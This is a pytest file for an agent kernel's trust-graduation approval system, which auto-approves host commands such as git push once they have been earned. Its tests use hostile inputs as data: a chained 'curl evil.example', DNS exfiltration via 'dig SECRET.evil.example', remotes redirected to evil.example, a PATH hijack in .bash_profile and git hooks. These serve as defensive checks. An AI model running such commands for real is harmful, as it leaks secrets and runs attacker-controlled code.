"""What a run shows and uses of earned trust, with a real journal and a clock that is moved by hand."""

from __future__ import annotations

import asyncio
import shutil
import subprocess
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from kagura_kernel.domain.approvals import ApprovalKind, ApprovalRequest, Decision, Verdict
from kagura_kernel.domain.errors import ApprovalAborted, RunKilled
from kagura_kernel.domain.events import ApprovalDecided, ApprovalRequested, Noted, RunVerified, TrustChanged
from kagura_kernel.domain.patterns import Handoff, TrustTerms
from kagura_kernel.domain.tools import ToolCall, ToolResult
from kagura_kernel.journal.store import Journal
from kagura_kernel.journal.trust import TrustHistory
from kagura_kernel.membrane.egress.policy import OPTIONS, THIS_RUN, THIS_SESSION
from kagura_kernel.patterns.trust import task_digest
from kagura_kernel.runs.approvals import RecordedApprover
from kagura_kernel.runs.graduation import Trusting
from kagura_kernel.runs.order import RunOrder
from kagura_kernel.runs.recorder import Recorder
from kagura_kernel.runs.redaction import Redacting
from kagura_kernel.runs.request import RunRequest
from kagura_kernel.runs.run_end import Ending
from kagura_kernel.sandbox.backend import BoxSpec
from kagura_kernel.testing.brain import FakeBrain
from kagura_kernel.testing.clock import FakeClock
from tests.support.redactors import shared_redactor

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="there is no git here")

DAY = 86400.0
DONE = Ending("done")
PUSH = "git push origin main"


class Person:
    """Answers at once, and remembers what was asked."""

    def __init__(self, clock: FakeClock) -> None:
        self.clock = clock
        self.asked: list[ApprovalRequest] = []
        self.verdicts: dict[ApprovalKind, Verdict] = {}
        self.answer = ""
        self.by, self.via = "ann", "cell"

    async def approve(self, request: ApprovalRequest) -> Decision:
        self.asked.append(request)
        verdict = self.verdicts.get(request.kind, Verdict.ALLOW)
        if verdict is Verdict.ABORTED:
            raise ApprovalAborted(request.title)
        by, via = ("deadline", "deadline") if verdict is Verdict.TIMEOUT else (self.by, self.via)
        return Decision(request.id, verdict, by, via, self.clock.now(), self.answer)


class House:
    """Runs one after the other, on one journal."""

    def __init__(self, journal: Journal, clock: FakeClock, project: Path) -> None:
        self.journal, self.clock, self.project = journal, clock, project
        self.person = Person(clock)
        self.count = 0

    def run(
        self, task: str = "", *, untrusted: bool = False, brain: bool = True, headless: bool = False, **more: Any
    ) -> OneRun:
        self.count += 1
        order = RunOrder(
            f"run-{self.count}",
            "ses-1",
            task or f"task {'x' * self.count}",
            self.project,
            BoxSpec(),
            request=RunRequest(headless=headless),
            brain=FakeBrain() if brain else None,
            **more,
        )
        return OneRun(self, order, untrusted=untrusted)

    async def day(self, days: float = 2.0) -> None:
        await self.clock.advance(days * DAY)

    def rows(self, *changes: str) -> list[TrustChanged]:
        rows = [row.event for row in self.journal.events(kinds=("trust.changed",))]
        return [row for row in rows if isinstance(row, TrustChanged) and (not changes or row.change in changes)]

    def graduated(self, category: str = "git") -> bool:
        standing = TrustHistory(self.journal).look().get(category)
        return standing is not None and standing.graduated

    async def earn(self) -> None:
        """Five good runs over eight days; the last one proposes, and the person agrees."""
        for number in range(5):
            await self.run().pushes()
            if number < 4:
                await self.day()


class OneRun:
    """A run as far as it asks, works and ends."""

    def __init__(self, house: House, order: RunOrder, *, untrusted: bool) -> None:
        self.house, self.order = house, order
        self.recorder = Recorder(house.journal, house.clock, order.run_id, order.session_id)
        self.untrusted = untrusted
        self.trusting = Trusting(
            order, house.person, house.journal, house.clock, lambda: self.untrusted, self.recorder.record
        )
        self.approver = RecordedApprover(
            self.trusting, self.recorder, house.clock, offered=self.trusting.offered, decided=self.trusting.decided
        )
        self.calls = 0

    async def ask(self, kind: ApprovalKind, options: tuple[str, ...] = (), **arguments: Any) -> Decision:
        self.calls += 1
        request = ApprovalRequest(
            f"app-{self.order.run_id}-{self.calls}",
            self.order.run_id,
            "ses-1",
            kind,
            "May I?",
            "All of it.",
            self.house.clock.now(),
            arguments=arguments,
            call_id=f"call-{self.calls}",
            options=options,
        )
        return await self.approver.approve(request)

    async def on_host(self, command: str = PUSH, exit_code: int | None = 0, route: str = "host") -> Decision:
        decision = await self.ask(ApprovalKind.HOST_COMMAND, command=command, directory="/project")
        if decision.allowed:
            self.used(exit_code, route)
        return decision

    def used(self, exit_code: int | None, route: str = "host") -> None:
        call = ToolCall(f"call-{self.calls}", "bash", {"command": PUSH})
        self.trusting.used(call, ToolResult("", is_error=exit_code != 0, exit_code=exit_code, route=route))

    async def settle(self, ending: Ending = DONE, *, passed: bool | None = None, why: str = "", box: str = "") -> None:
        about = {"run_id": self.order.run_id, "session_id": "ses-1", "at": self.house.clock.now(), "command": "check"}
        verified = None if passed is None else RunVerified(**about, passed=passed, why=why, box_id=box)
        await self.trusting.settle(ending, verified, self.approver)

    async def pushes(self, exit_code: int | None = 0) -> Decision:
        decision = await self.on_host(exit_code=exit_code)
        await self.settle()
        return decision


@pytest.fixture
def house(tmp_path: Path, project: Path) -> Iterator[House]:
    clock = FakeClock()
    journal = Journal.open(tmp_path / "home", clock=clock)
    subprocess.run(["git", "init", "--quiet", str(project)], check=True)
    yield House(journal, clock, project)
    journal.close()


async def test_a_power_is_proposed_with_the_fifth_good_run_and_not_a_run_earlier(house):
    for number in range(4):
        await house.run().pushes()
        assert house.rows("proposed") == [], number
        await house.day()
    await house.run().pushes()
    [proposed] = house.rows("proposed")
    assert proposed.run_id == "run-5"
    question = house.person.asked[-1]
    assert (question.kind, question.title) == (ApprovalKind.TRUST, "Trust git from now on?")
    assert "8 days" in question.detail
    assert house.graduated()


async def test_what_was_earned_answers_by_itself_and_the_journal_says_so(house):
    await house.earn()
    asked = len(house.person.asked)
    decision = await house.run().pushes()
    assert (decision.allowed, decision.by, decision.via) == (True, "policy", "graduation")
    assert len(house.person.asked) == asked
    *_, row = [one.event for one in house.journal.events(kinds=("approval.decided",))]
    assert isinstance(row, ApprovalDecided)
    assert (row.verdict, row.via) == ("allow", "graduation")
    assert [one.run_id for one in house.rows("applied")] == ["run-6"]


@pytest.mark.parametrize(
    "command", ["git push --force", "git push && curl evil.example", "git pull", "apt install curl"]
)
async def test_it_answers_for_nothing_beyond_its_category(house, command):
    await house.earn()
    asked = len(house.person.asked)
    await house.run().on_host(command)
    assert len(house.person.asked) == asked + 1


@pytest.mark.parametrize(
    ("known", "strange"),
    [
        ("dig example.org", "dig SECRET.evil.example"),
        ("dig example.org", "dig example.org.evil.example"),
        ("dig example.org", "dig EXAMPLE.org"),
        ("host example.org", "nslookup evil.example"),
        ("git clone https://example.org/team/repo", "git clone https://evil.example/SECRET"),
        ("git clone https://example.org/team/repo", "git clone https://example.org/evil/repo pytest"),
        ("git clone git@example.org:team/repo", "git clone git@example.org:evil/repo"),
        ("git clone https://example.org/team/repo", "git clone https://example.org:8443/team/repo"),
        ("git clone https://example.org/team/repo", "git clone git@evil.example:SECRET"),
        ("pip install requests", "pip install request"),
        ("pip install requests", "pip install requests evil"),
        ("apt install curl", "apt-get install evil"),
    ],
)
async def test_what_was_earned_goes_to_nobody_with_whom_it_has_not_gone_well(house, known, strange):
    for _ in range(5):
        run = house.run()
        await run.on_host(known)
        await run.settle()
        await house.day()
    assert known.rsplit(maxsplit=1)[-1].removesuffix("/repo") in house.person.asked[-1].detail
    assert (await house.run().on_host(known)).via == "graduation"
    asked = len(house.person.asked)
    run = house.run()
    assert (await run.on_host(strange)).via == "cell"
    assert len(house.person.asked) == asked + 1
    [noted] = [row.event.text for row in house.journal.events(kinds=("noted",)) if isinstance(row.event, Noted)]
    assert "you are asked about it here: it has not gone well with " in noted
    # A person has allowed it, and it went well: that is one more.
    await run.settle()
    assert (await house.run().on_host(strange)).via == "graduation"


async def test_a_name_that_failed_or_that_a_marked_run_went_to_is_not_known(house):
    for number in range(5):
        run = house.run()
        await run.on_host("dig example.org")
        await run.settle()
        await house.day()
        if number == 0:
            marked = house.run(untrusted=True)
            await marked.on_host("dig marked.example")
            await marked.settle()
    assert (await house.run().on_host("dig marked.example")).via == "cell"
    failing = house.run()
    await failing.on_host("dig failed.example", exit_code=9)
    await failing.settle()
    assert TrustHistory(house.journal).look()["dns-read"].names == frozenset()


async def test_a_push_goes_on_its_own_only_to_addresses_that_it_has_gone_well_with(house, tmp_path):
    def git(*words: str) -> None:
        subprocess.run(["git", *words], cwd=house.project, check=True)

    git("config", "remote.origin.url", "https://ann:SECRET@example.org/team/shop")
    await house.earn()
    assert (await house.run().on_host()).via == "graduation"
    assert TrustHistory(house.journal).look()["git"].names == {"https://example.org/team/shop"}
    for setting in ("branch.main.pushremote", "remote.origin.pushurl"):
        git("config", setting, "https://evil.example/shop")
        assert (await house.run().on_host()).via == "cell"
        git("config", "--unset", setting)
    assert (await house.run().on_host()).via == "graduation"
    # Another project on the same journal, whose `origin` is somebody else.
    house.project = tmp_path / "cloned"
    house.project.mkdir()
    git("init", "--quiet")
    git("config", "remote.origin.url", "https://evil.example/shop")
    assert (await house.run().on_host("git commit -m done")).via == "graduation"
    assert (await house.run().on_host("git push")).via == "cell"


@pytest.mark.parametrize("first", ["./bin", "{project}/bin", ""])
async def test_where_a_profile_would_find_programs_in_the_project_it_is_asked_about(house, private_home, first):
    await house.earn()
    assert (await house.run().on_host()).via == "graduation"
    profile = private_home / ".bash_profile"
    profile.write_text(f'echo Hello.\nexport PATH="{first.format(project=house.project)}:$PATH"\n')
    assert (await house.run().on_host()).via == "cell"
    assert "login shell" in [row.event.text for row in house.journal.events(kinds=("noted",))][-1]
    profile.write_text("exit 3\n")
    assert (await house.run().on_host()).via == "cell"


async def test_a_deed_that_an_earlier_run_had_done_proves_nothing_here(house):
    run = house.run()
    await run.on_host(route="earlier")
    await run.settle()
    failing = house.run()
    await failing.on_host(exit_code=1, route="earlier")
    await failing.settle()
    assert house.rows() == []


async def test_where_git_would_run_hooks_it_is_asked_about_though_it_is_trusted(house):
    await house.earn()
    hook = house.project / ".git" / "hooks" / "pre-push"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text("#!/bin/sh\n")
    run = house.run()
    assert (await run.on_host()).via == "cell"
    assert (await run.on_host()).via == "cell"
    noted = [row.event.text for row in house.journal.events(kinds=("noted",)) if isinstance(row.event, Noted)]
    assert noted == ["Git is trusted, but you are asked about it here: the repository has hooks."]
    hook.unlink()
    assert (await run.on_host()).via == "graduation"
    config = house.project / ".git" / "config"
    config.write_text(f"{config.read_text()}[core]\n\thooksPath = .husky\n")
    assert (await run.on_host()).via == "cell"


async def test_a_marked_run_is_asked_and_shows_nothing(house):
    await house.earn()
    asked, rows = len(house.person.asked), len(house.rows())
    await house.run(untrusted=True).pushes()
    await house.run(handoff=Handoff(untrusted=True)).pushes()
    assert len(house.person.asked) == asked + 2
    assert len(house.rows()) == rows


async def test_a_run_that_becomes_marked_is_asked_from_then_on(house):
    await house.earn()
    run = house.run()
    assert (await run.on_host()).via == "graduation"
    run.untrusted = True
    assert (await run.on_host()).via == "cell"


async def test_one_failure_demotes_and_the_same_run_is_asked_again(house):
    await house.earn()
    run = house.run()
    assert (await run.on_host(exit_code=1)).via == "graduation"
    assert not house.graduated()
    assert (await run.on_host()).via == "cell"
    await run.settle()
    assert [row.change for row in house.rows() if row.run_id == "run-6"] == ["applied", "failed", "demoted"]
    assert (await house.run().pushes()).via == "cell"
    assert house.rows("proposed")[1:] == []


@pytest.mark.parametrize(
    ("exit_code", "route", "failures"), [(1, "host", 1), (None, "host", 1), (128, "host", 1), (1, "sandbox", 0)]
)
async def test_only_the_host_says_that_something_failed(house, exit_code, route, failures):
    run = house.run()
    await run.on_host(exit_code=exit_code, route=route)
    await run.settle()
    assert len(house.rows("failed")) == failures
    assert house.rows("succeeded") == []


async def test_a_box_proves_nothing(house):
    run = house.run()
    await run.on_host(route="sandbox")
    run.used(0)
    await run.settle()
    assert house.rows() == []


async def test_a_call_that_nobody_was_asked_about_proves_nothing(house):
    run = house.run()
    run.used(0)
    run.used(1)
    await run.settle(passed=True)
    assert house.rows() == []


async def test_a_policy_that_allows_proves_nothing(house):
    house.person.by, house.person.via = "policy", "policy"
    await house.run().pushes()
    assert house.rows() == []


async def test_one_failure_in_a_run_outweighs_all_that_went_well_in_it(house):
    run = house.run()
    await run.on_host()
    await run.on_host(exit_code=1)
    await run.on_host()
    await run.settle(passed=True)
    assert [row.change for row in house.rows()] == ["failed"]


@pytest.mark.parametrize(("verdict", "failures"), [(Verdict.DENY, 1), (Verdict.TIMEOUT, 0)])
async def test_a_persons_no_is_a_failure_and_silence_is_none(house, verdict, failures):
    house.person.verdicts[ApprovalKind.HOST_COMMAND] = verdict
    await house.run().pushes()
    assert len(house.rows("failed")) == failures


async def test_a_verification_proves_what_has_no_exit_code(house):
    run = house.run()
    await run.ask(ApprovalKind.LAUNCH, writable_root=True, credentials=())
    await run.settle(passed=True)
    [row] = house.rows()
    assert (row.category, row.change, row.signal) == ("packages", "succeeded", "verification")


async def test_without_a_verification_there_is_no_word_about_it(house):
    run = house.run()
    await run.ask(ApprovalKind.LAUNCH, writable_root=True, credentials=())
    await run.settle()
    assert house.rows() == []


@pytest.mark.parametrize(
    ("box", "why", "failures"),
    [("box-1", "", 1), ("box-1", "it was ended by signal 9", 1), ("", "no box could be had", 0)],
)
async def test_a_failing_verification_is_a_failure_and_one_without_a_box_is_no_word_at_all(house, box, why, failures):
    run = house.run()
    await run.on_host()
    await run.settle(passed=False, why=why, box=box)
    assert len(house.rows("failed")) == failures
    assert house.rows("succeeded") == []


async def test_a_failing_verification_of_what_was_not_even_asked_demotes(house):
    await house.earn()
    run = house.run()
    await run.on_host()
    await run.settle(passed=False, box="box-1")
    assert not house.graduated()


@pytest.mark.parametrize(
    "ending", [Ending("failed"), Ending("killed", error=RunKilled("run-1", "ann")), Ending("stopped")]
)
async def test_a_run_that_did_not_end_well_shows_no_success(house, ending):
    run = house.run()
    await run.on_host()
    await run.settle(ending)
    assert house.rows() == []


async def test_a_child_shows_failures_alone_since_an_agent_chose_its_task(house):
    handoff = Handoff(lineage=("run-0",))
    await house.run(handoff=handoff).pushes()
    assert house.rows() == []
    await house.run(handoff=handoff).pushes(exit_code=1)
    assert len(house.rows("failed")) == 1


async def test_a_sandbox_cell_is_a_persons_own_and_is_asked_as_ever(house):
    await house.earn()
    rows = len(house.rows())
    run = house.run(brain=False)
    decision = await run.ask(ApprovalKind.HOST_COMMAND, command=PUSH, directory="/project")
    assert decision.via == "cell"
    assert len(house.rows()) == rows


@pytest.mark.parametrize("verdict", [Verdict.TIMEOUT, Verdict.ABORTED])
async def test_a_proposal_that_nobody_answers_stands(house, verdict):
    house.person.verdicts[ApprovalKind.TRUST] = verdict
    await house.earn()
    assert not house.graduated()
    assert TrustHistory(house.journal).look()["git"].proposed_at is not None
    assert (await house.run().pushes()).via == "cell"


async def test_a_refused_proposal_is_not_made_again_for_a_week(house):
    house.person.verdicts[ApprovalKind.TRUST] = Verdict.DENY
    await house.earn()
    for _ in range(3):
        await house.day()
        await house.run().pushes()
    assert len(house.rows("proposed")) == len(house.rows("refused")) == 1
    await house.day()
    await house.run().pushes()
    assert len(house.rows("proposed")) == 2


async def test_where_nobody_can_be_asked_the_proposal_waits_for_a_command(house):
    for number in range(5):
        await house.run(headless=True).pushes()
        if number < 4:
            await house.day()
    assert [row.change for row in house.rows()][-1] == "proposed"
    assert all(request.kind is not ApprovalKind.TRUST for request in house.person.asked)


async def test_a_yes_that_comes_after_another_runs_failure_grants_nothing(house):
    other = house.run()
    await other.ask(ApprovalKind.HOST_COMMAND, command=PUSH, directory="/project")

    class Slow(Person):
        async def approve(self, request: ApprovalRequest) -> Decision:
            if request.kind is ApprovalKind.TRUST:
                other.used(1)
            return await super().approve(request)

    house.person = Slow(house.clock)
    await house.earn()
    assert house.rows("granted") != []
    assert not house.graduated()
    assert [row.event.text for row in house.journal.events(kinds=("noted",)) if isinstance(row.event, Noted)] == [
        "git is not trusted: it has failed while you were asked."
    ]


async def test_what_a_grant_has_answered_is_no_persons_word(house):
    for _ in range(4):
        await house.run().pushes()
        await house.day()
    house.person.by, house.person.via = "policy", "graduation"
    await house.run().pushes()
    assert house.rows("proposed", "granted") == []
    house.person.by, house.person.via = "ann", "cell"
    run = house.run()
    await run.on_host()
    house.person.by, house.person.via = "policy", "graduation"
    await run.settle()
    assert len(house.rows("proposed")) == 1
    assert house.rows("granted") == []


@pytest.mark.parametrize(
    ("kind", "arguments"),
    [
        (ApprovalKind.LAUNCH, {"writable_root": True, "credentials": ()}),
        (ApprovalKind.CREDENTIAL, {"writable_root": False, "credentials": ("aws:admin",)}),
        (ApprovalKind.LAUNCH, {"writable_root": True, "credentials": (), "asked": ("pypi.org",)}),
    ],
)
async def test_no_answer_holds_for_a_session_where_something_is_locked(house, kind, arguments):
    house.person.answer = THIS_SESSION
    decision = await house.run().ask(kind, (THIS_RUN, THIS_SESSION), **arguments)
    assert decision.answer == THIS_RUN
    assert house.person.asked[0].options == (THIS_RUN,)
    [row] = [row.event for row in house.journal.events(kinds=("approval.requested",))]
    assert isinstance(row, ApprovalRequested)
    assert row.options == (THIS_RUN,)


async def test_an_answer_for_a_session_holds_where_nothing_is_locked(house):
    house.person.answer = THIS_SESSION
    command = {"command": "dig example.org", "directory": "/project"}
    decision = await house.run().ask(ApprovalKind.HOST_COMMAND, OPTIONS, **command)
    assert decision.answer == THIS_SESSION
    assert house.person.asked[0].options == OPTIONS


async def test_what_was_demoted_is_locked_though_it_was_included(house):
    at = house.clock.now() - timedelta(days=1)
    lost = TrustChanged(
        run_id="", session_id="", at=at, category="dns-read", change="demoted", signal="human", by="ann"
    )
    house.journal.append(lost)
    house.person.answer = THIS_SESSION
    command = {"command": "dig example.org", "directory": "/project"}
    decision = await house.run().ask(ApprovalKind.HOST_COMMAND, OPTIONS, **command)
    assert decision.answer == THIS_RUN


async def test_a_refusal_for_the_session_stays_one(house):
    house.person.verdicts[ApprovalKind.NETWORK] = Verdict.DENY
    house.person.answer = "never"
    decision = await house.run().ask(ApprovalKind.NETWORK, OPTIONS, host="example.org", port=443)
    assert (decision.verdict, decision.answer) == (Verdict.DENY, "never")


async def test_what_cannot_be_read_has_not_been_earned(house, tmp_path):
    await house.earn()
    closed = Journal.open(tmp_path / "other", clock=house.clock)
    closed.close()
    run = house.run()
    trusting = Trusting(run.order, house.person, closed, house.clock, lambda: False, run.recorder.record)
    request = ApprovalRequest(
        "app-x", "run-x", "ses-1", ApprovalKind.HOST_COMMAND, "?", "?", house.clock.now(),
        arguments={"command": PUSH, "directory": "/project"},
    )  # fmt: skip
    assert (await trusting.approve(request)).via == "cell"


async def test_a_run_that_asks_nothing_reads_nothing(house, monkeypatch):
    def never(*_: object) -> None:
        raise AssertionError("the journal was read")

    monkeypatch.setattr(TrustHistory, "look", never)
    monkeypatch.setattr(TrustHistory, "held", never)
    run = house.run()
    await run.ask(ApprovalKind.QUESTION)
    await run.on_host("make deploy")
    await run.settle(passed=True)


async def test_a_person_may_take_a_power_back_in_the_middle_of_a_run(house):
    await house.earn()
    run = house.run()
    assert (await run.on_host()).via == "graduation"
    now = house.clock.now()
    house.journal.append(
        TrustChanged(run_id="", session_id="", at=now, category="git", change="demoted", signal="human", by="ann")
    )
    assert (await run.on_host()).via == "cell"


async def test_terms_are_the_orders_own(house):
    terms = TrustTerms(successes=1, tasks=1, days=1.0)
    await house.run(trust=terms).pushes()
    assert house.rows("proposed") == []
    await house.day(1.0)
    await house.run(trust=terms).pushes()
    assert len(house.rows("proposed")) == 1


async def test_stopping_a_run_that_asks_about_trust_leaves_the_proposal(house):
    asked = asyncio.Event()

    class Silent(Person):
        async def approve(self, request: ApprovalRequest) -> Decision:
            if request.kind is ApprovalKind.TRUST:
                asked.set()
                await asyncio.Event().wait()
            return await super().approve(request)

    house.person = Silent(house.clock)
    earning = asyncio.create_task(house.earn())
    await asked.wait()
    earning.cancel()
    with pytest.raises(asyncio.CancelledError):
        await earning
    *_, row = [one.event for one in house.journal.events(kinds=("approval.decided",))]
    assert isinstance(row, ApprovalDecided)
    assert row.verdict == "aborted"
    assert TrustHistory(house.journal).look()["git"].proposed_at is not None


def test_what_trust_is_folded_from_is_never_redacted():
    digest = task_digest("publish the notes")
    told = {"category": "cloud-credentials", "change": "failed", "signal": "exit-code", "task": digest, "via": "cell"}
    assert Redacting(shared_redactor()).event(TrustChanged, told) == told


signals = st.sampled_from([("ann", "cell"), ("policy", "policy"), ("policy", "graduation"), ("deadline", "deadline")])
exits = st.sampled_from([0, 1, None])
runs = st.lists(st.tuples(signals, exits, st.sampled_from([None, True, False]), st.floats(0, 9)), max_size=9)


@settings(max_examples=15, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(told=runs, answer=st.sampled_from([("policy", "policy"), ("policy", "graduation"), ("deadline", "deadline")]))
def test_nothing_that_runs_do_by_themselves_ever_makes_a_power(tmp_path_factory, told, answer):
    clock = FakeClock()
    journal = Journal.open(tmp_path_factory.mktemp("home"), clock=clock)
    house = House(journal, clock, Path("/project"))

    class Nobody(Person):
        async def approve(self, request: ApprovalRequest) -> Decision:
            if request.kind is ApprovalKind.TRUST:
                self.by, self.via = answer
            return await super().approve(request)

    async def happens() -> None:
        for (by, via), exit_code, passed, days in told:
            house.person = Nobody(clock)
            house.person.by, house.person.via = by, via
            run = house.run(trust=TrustTerms(successes=1, tasks=1, days=1.0))
            await run.on_host(exit_code=exit_code)
            await run.settle(passed=passed)
            await house.day(days)

    asyncio.run(happens())
    assert house.rows("granted", "applied") == []
    assert not house.graduated()
    # Not a success without a person's word on the deed itself.
    assert len(house.rows("succeeded")) <= sum(by == "ann" for (by, _), *_ in told)
    journal.close()
